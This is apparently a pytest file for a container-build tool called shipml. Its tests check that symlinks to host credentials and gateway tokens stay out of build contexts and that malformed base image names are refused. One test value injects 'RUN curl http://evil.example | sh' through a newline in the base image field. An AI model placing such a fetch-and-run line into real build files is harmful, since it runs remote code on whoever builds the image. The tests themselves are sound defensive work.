"""The build context of the project images, assembled without building an image."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from shipml.config import ProjectConfig
from shipml.containers import build_image
from shipml.containers.context import project_context
from shipml.errors import ContainerError


def test_a_link_out_of_the_project_is_not_copied_into_an_image(
    config: ProjectConfig, tmp_path: Path
) -> None:
    """A cloned repository may commit a link to a file of whoever builds it."""
    secret = tmp_path / "host-credentials"
    secret.write_text("AKIA-HOST-SECRET\n")
    (config.root / "creds.txt").symlink_to(secret)
    subprocess.run(["git", "add", "creds.txt"], cwd=config.root, check=True)
    context = tmp_path / "context"
    with pytest.raises(ContainerError, match=r"creds\.txt is a symbolic link") as caught:
        project_context(config, "train", "python:3.11-slim", context, {}, {})
    assert caught.value.hint
    copied = [p for p in context.rglob("*") if p.is_file()] if context.exists() else []
    assert not any("AKIA-HOST-SECRET" in p.read_text(errors="replace") for p in copied)


def test_a_link_inside_the_project_is_copied(config: ProjectConfig, tmp_path: Path) -> None:
    (config.root / "notes.md").write_text("inside\n")
    (config.root / "link.md").symlink_to("notes.md")
    context = tmp_path / "context"
    project_context(config, "train", "python:3.11-slim", context, {}, {})
    assert (context / "project" / "link.md").read_text() == "inside\n"


@pytest.mark.parametrize("key", ["admin_token", "feedback_token"])
def test_a_gateway_token_in_shipml_toml_is_not_copied_into_an_image(
    config: ProjectConfig, tmp_path: Path, key: str
) -> None:
    toml = config.root / "shipml.toml"
    text = toml.read_text()
    assert "[rollout]\n" in text
    toml.write_text(text.replace("[rollout]\n", f'[rollout]\n{key} = "tok-hunter2"\n', 1))
    context = tmp_path / "context"
    with pytest.raises(ContainerError, match=f"sets \\[rollout\\] {key}") as caught:
        project_context(config, "test", "python:3.11-slim", context, {}, {})
    assert "SHIPML_ROLLOUT_" in caught.value.hint
    assert "hunter2" not in caught.value.message + caught.value.hint
    copied = [p for p in context.rglob("*") if p.is_file()] if context.exists() else []
    assert not any("tok-hunter2" in p.read_text(errors="replace") for p in copied)


@pytest.mark.parametrize(
    "base", ["python:3.11-slim\nRUN curl http://evil.example | sh", "python:3.11 AS x", ""]
)
def test_a_base_image_that_is_not_a_reference_is_refused(config: ProjectConfig, base: str) -> None:
    """The base image is written into the FROM line: a newline would add instructions."""
    with pytest.raises(ContainerError, match="is not an image reference") as caught:
        build_image(config, "train", base_image=base or " ", engine="podman")
    assert caught.value.hint
    assert not (config.root / "build" / "train" / "Containerfile").exists()
